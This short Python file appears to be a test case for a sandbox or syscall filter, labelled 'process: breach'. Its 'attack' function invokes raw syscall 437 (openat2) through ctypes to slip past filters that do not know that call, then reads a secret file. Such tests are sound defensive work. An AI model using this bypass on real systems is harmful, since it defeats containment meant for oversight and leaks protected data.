# Opens a file with a system call that older filters do not know.
# expect: ok
# process: breach
import ctypes
import os


def attack(target):
    libc = ctypes.CDLL(None, use_errno=True)
    how = (ctypes.c_uint64 * 3)(0, 0, 0)
    descriptor = libc.syscall(437, -100, target["secret_file"].encode(), how, 24)
    return os.read(descriptor, 1000).decode() if descriptor >= 0 else descriptor
